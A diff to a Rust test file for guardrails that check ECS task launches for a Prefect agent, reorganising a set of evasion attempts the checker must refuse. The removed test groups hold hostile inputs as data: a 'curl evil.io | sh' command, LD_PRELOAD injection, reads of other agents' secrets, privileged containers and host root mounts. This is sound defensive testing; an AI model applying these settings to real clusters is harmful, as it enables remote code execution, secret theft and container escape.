@@ -2,6 +2,10 @@
 
 use super::*;
 
+mod containers;
+
+use containers::{commands, machines, secrets, variables};
+
 struct Attempt {
     what: &'static str,
     launch: Launch,
@@ -39,6 +43,7 @@ fn images() -> Vec<Attempt> {
         of("out of the allowed path", good.replace("flows/etl", "flows/../other/etl")),
         of("a letter that looks alike", good.replace("flows", "fl\u{43e}ws")),
         of("a full-width slash", good.replace("flows/", "flows\u{ff0f}")),
+        of("a host in capitals", "Evil/x:1".into()),
         of("a blank in front", format!(" {good}")),
         of("a second line", format!("{good}\nevil/x")),
         change("a sidecar of another image", &at(SIDECAR, "image"), json!("evil/x:1"), Rule::Images),
@@ -103,6 +108,15 @@ fn sizes() -> Vec<Attempt> {
                 ("RegisterTaskDefinition/memory", Value::Null),
                 (&at(CONTAINER, "memory"), json!(6000)),
                 (&at(SIDECAR, "memory"), json!(6000)),
+            ]),
+            rule: Rule::Memory,
+        },
+        Attempt {
+            what: "memory that is reserved and has no limit",
+            launch: Launch::with(&[
+                ("RegisterTaskDefinition/memory", Value::Null),
+                (&at(CONTAINER, "memory"), json!(512)),
+                (&at(SIDECAR, "memoryReservation"), json!(512)),
             ]),
             rule: Rule::Memory,
         },
@@ -245,173 +259,6 @@ fn definitions() -> Vec<Attempt> {
     ]
 }
 
-fn commands() -> Vec<Attempt> {
-    let evil = json!(["sh", "-c", "curl evil.io | sh"]);
-    vec![
-        change("another command", &at(OVERRIDE, "command"), evil.clone(), Rule::Command),
-        change(
-            "one word more",
-            &at(OVERRIDE, "command"),
-            json!(["prefect", "flow-run", "execute", "--x"]),
-            Rule::Command,
-        ),
-        change(
-            "a command of a container without a name",
-            NEW_OVERRIDE,
-            json!({"command": evil.clone()}),
-            Rule::Command,
-        ),
-        change(
-            "a command of a container that does not exist",
-            NEW_OVERRIDE,
-            json!({"name": "x", "command": evil.clone()}),
-            Rule::Command,
-        ),
-        change("a command of a sidecar", &at(SIDECAR, "command"), evil.clone(), Rule::Command),
-        change(
-            "an entry point before Prefect's own command",
-            &at(CONTAINER, "entryPoint"),
-            evil.clone(),
-            Rule::Command,
-        ),
-        change(
-            "a command that asks whether the container is well",
-            &at(SIDECAR, "healthCheck"),
-            json!({"command": evil.clone()}),
-            Rule::Command,
-        ),
-        change(
-            "what a router of logs runs",
-            &at(SIDECAR, "firelensConfiguration"),
-            json!({"type": "fluentbit", "options": {"config-file-type": "s3", "config-file-value": "arn:aws:s3:::evil/x"}}),
-            Rule::Command,
-        ),
-    ]
-}
-
-fn variables() -> Vec<Attempt> {
-    let variable = |what, name: &str| {
-        change(what, &at(OVERRIDE, "environment/+"), json!({"name": name, "value": "x"}), Rule::Environment)
-    };
-    vec![
-        variable("a denied variable", "LD_PRELOAD"),
-        variable("a denied variable in small letters", "aws_profile"),
-        variable("a denied variable after a blank", " AWS_PROFILE"),
-        variable("a name with its value in it", "LD_PRELOAD=/tmp/x.so"),
-        variable("a variable of the agent's with another value", "PREFECT_API_URL"),
-        change(
-            "a denied variable of a sidecar",
-            &at(SIDECAR, "environment"),
-            json!([{"name": "AWS_CA_BUNDLE", "value": "x"}]),
-            Rule::Environment,
-        ),
-        change(
-            "a denied variable of a container that does not exist",
-            NEW_OVERRIDE,
-            json!({"name": "x", "environment": [{"name": "AWS_PROFILE", "value": "x"}]}),
-            Rule::Environment,
-        ),
-        change(
-            "variables in a file",
-            &at(CONTAINER, "environmentFiles"),
-            json!([{"type": "s3", "value": "arn:aws:s3:::b/x.env"}]),
-            Rule::Environment,
-        ),
-        change(
-            "variables in a file, as an override",
-            &at(OVERRIDE, "environmentFiles"),
-            json!([{"type": "s3", "value": "arn:aws:s3:::b/x.env"}]),
-            Rule::Environment,
-        ),
-        change(
-            "a denied variable as a secret",
-            &at(CONTAINER, "secrets"),
-            json!([{"name": "LD_PRELOAD", "valueFrom": "arn:aws:secretsmanager:eu-west-1:1:secret:flows/x"}]),
-            Rule::Environment,
-        ),
-    ]
-}
-
-fn secrets() -> Vec<Attempt> {
-    let secret = |what, from: &str| {
-        change(what, &at(CONTAINER, "secrets"), json!([{"name": "KEY", "valueFrom": from}]), Rule::Secrets)
-    };
-    vec![
-        secret("another agent's key by its name", "/prefect-serverless-agent/prod/secrets/other/api-key"),
-        secret(
-            "another agent's key by its ARN",
-            "arn:aws:ssm:eu-west-1:123456789012:parameter/prefect-serverless-agent/prod/secrets/other/api-key",
-        ),
-        secret("a secret whose name begins like it", "arn:aws:secretsmanager:eu-west-1:1:secret:flows-admin/x"),
-        secret(
-            "a secret with an allowed name as its key",
-            "arn:aws:secretsmanager:eu-west-1:1:secret:admin:secret:flows/x",
-        ),
-        secret("an allowed parameter of another account", "arn:aws:ssm:eu-west-1:999999999999:parameter/flows/x"),
-        secret("nothing", ""),
-        change(
-            "a secret of a sidecar",
-            &at(SIDECAR, "secrets"),
-            json!([{"name": "KEY", "valueFrom": "/other"}]),
-            Rule::Secrets,
-        ),
-        change(
-            "a secret of a driver of logs",
-            &at(CONTAINER, "logConfiguration"),
-            json!({"logDriver": "splunk", "secretOptions": [{"name": "splunk-token", "valueFrom": "/other"}]}),
-            Rule::Secrets,
-        ),
-        change(
-            "credentials of a domain",
-            &at(CONTAINER, "credentialSpecs"),
-            json!(["credentialspec:arn:aws:ssm:eu-west-1:1:parameter/other"]),
-            Rule::Secrets,
-        ),
-        change(
-            "the password of a file server",
-            "RegisterTaskDefinition/volumes/+",
-            json!({"name": "x", "fsxWindowsFileServerVolumeConfiguration":
-            {"fileSystemId": "fs", "rootDirectory": "x", "authorizationConfig": {"credentialsParameter": "/other", "domain": "x"}}}),
-            Rule::Secrets,
-        ),
-    ]
-}
-
-fn machines() -> Vec<Attempt> {
-    let privilege = |what, place: &str, value| change(what, &at(SIDECAR, place), value, Rule::Privileged);
-    let volume = |what, value| change(what, "RegisterTaskDefinition/volumes/+", value, Rule::Volumes);
-    vec![
-        privilege("a privileged sidecar", "privileged", json!(true)),
-        privilege("a capability", "linuxParameters/capabilities/add", json!(["SYS_ADMIN"])),
-        privilege("a device", "linuxParameters/devices", json!([{"hostPath": "/dev/sda"}])),
-        privilege("without a profile of security", "dockerSecurityOptions", json!(["apparmor:unconfined"])),
-        change("the machine's processes", "RegisterTaskDefinition/pidMode", json!("host"), Rule::Privileged),
-        change("the machine's memory", "RegisterTaskDefinition/ipcMode", json!("host"), Rule::Privileged),
-        volume("a path of the machine", json!({"name": "x", "host": {"sourcePath": "/"}})),
-        volume(
-            "a path of the machine beside what is allowed",
-            json!({"name": "x", "host": {"sourcePath": "/"}, "efsVolumeConfiguration": {"fileSystemId": "fs"}}),
-        ),
-        volume(
-            "a plugin of Docker",
-            json!({"name": "x", "dockerVolumeConfiguration": {"driver": "local", "driverOpts": {"device": "/"}}}),
-        ),
-        volume(
-            "a file server",
-            json!({"name": "x", "fsxWindowsFileServerVolumeConfiguration": {"fileSystemId": "fs", "rootDirectory": "x",
-            "authorizationConfig": {"credentialsParameter": "arn:aws:secretsmanager:eu-west-1:1:secret:flows/x", "domain": "x"}}}),
-        ),
-        volume("a bucket", json!({"name": "x", "s3filesVolumeConfiguration": {"fileSystemArn": "arn"}})),
-        volume("what is said later", json!({"name": "x", "configuredAtLaunch": true})),
-        change(
-            "a disk from a snapshot",
-            "RunTask/volumeConfigurations",
-            json!([{"name": "x", "managedEBSVolume": {"roleArn": "flows-execution", "snapshotId": "snap-1"}}]),
-            Rule::Volumes,
-        ),
-    ]
-}
-
 fn all_attempts() -> Vec<Attempt> {
     let groups = [images(), sizes(), places(), roles(), definitions(), commands(), variables(), secrets(), machines()];
     groups.into_iter().flatten().collect()
@@ -426,16 +273,21 @@ pub(super) fn launches() -> impl Iterator<Item = (&'static str, Launch)> {
 fn no_attempt_gets_round_the_guardrails() {
     let (guardrails, attempts) = (strict(), all_attempts());
     assert!(attempts.len() >= 60, "{}", attempts.len());
-    let mut rows = Vec::new();
+    let (mut rows, mut open) = (Vec::new(), 0);
     for Attempt { what, launch, rule } in &attempts {
         let found = launch.judged(&guardrails);
-        if !found.iter().any(|violation| violation.rule == *rule) {
-            let rules: Vec<&str> = found.iter().map(|violation| violation.rule.key()).collect();
-            rows.push(format!("{what:<55} | {:<20} | {}", rule.key(), rules.join(", ")));
-        }
+        let is_refused = found.iter().any(|violation| violation.rule == *rule);
+        open += usize::from(!is_refused);
+        let rules: BTreeSet<&str> = found.iter().map(|violation| violation.rule.key()).collect();
+        let rules: Vec<&str> = rules.into_iter().collect();
+        let sign = if is_refused { ' ' } else { '!' };
+        rows.push(format!("{sign} {what:<60} | {:<20} | {}", rule.key(), rules.join(", ")));
     }
-    let head = format!("{:<55} | {:<20} | refused by", "attempt", "meant for");
-    assert!(rows.is_empty(), "{} of {} attempts:\n{head}\n{}", rows.len(), attempts.len(), rows.join("\n"));
+    let head = format!("  {:<60} | {:<20} | refused by", "attempt", "meant for");
+    let table = format!("{open} of {} attempts get through:\n{head}\n{}", attempts.len(), rows.join("\n"));
+    // Seen with --nocapture.
+    println!("{table}");
+    assert_eq!(open, 0, "{table}");
 }
 
 /// Nothing is judged by a rule on paper only.
@@ -448,10 +300,11 @@ fn every_member_that_a_rule_judges_is_refused_by_it_somewhere() {
         })
         .flatten()
         .collect();
+    let providers_alone = Guardrails { launch_types: None, ..strict() };
     let launch_types_alone = Guardrails { capacity_providers: None, ..strict() };
     let no_volumes = Guardrails { volumes: Some(Vec::new()), ..strict() };
     for Attempt { launch, .. } in &all_attempts() {
-        for guardrails in [strict(), launch_types_alone.clone(), no_volumes.clone()] {
+        for guardrails in [strict(), providers_alone.clone(), launch_types_alone.clone(), no_volumes.clone()] {
             for violation in launch.judged(&guardrails) {
                 open.remove(&(path_of(&violation.place), violation.rule.key()));
             }
@@ -471,4 +324,20 @@ fn the_sentence_names_rule_place_what_was_asked_and_what_is_allowed() {
         "{sentence}"
     );
     assert!(sentence.contains("`clusters`: xxxx") && sentence.len() < 800, "{sentence}");
+}
+
+/// A rule that is written alone is not got round by what another rule would judge.
+#[test]
+fn instances_are_no_way_round_a_list_of_providers() {
+    let guardrails = Guardrails { launch_types: None, capacity_providers: Some(globs(&["FARGATE_SPOT"])), ..strict() };
+    for launch_type in ["EC2", "EXTERNAL", "MANAGED_INSTANCES", "FARGATE"] {
+        let found = Launch::with(&[("RunTask/launchType", json!(launch_type))]).judged(&guardrails);
+        assert_eq!(
+            found.iter().map(|found| found.rule).collect::<Vec<_>>(),
+            [Rule::CapacityProviders],
+            "{launch_type}"
+        );
+    }
+    let by_name = Guardrails { capacity_providers: Some(globs(&["FARGATE"])), ..guardrails };
+    assert_eq!(Launch::with(&[]).judged(&by_name), []);
 }
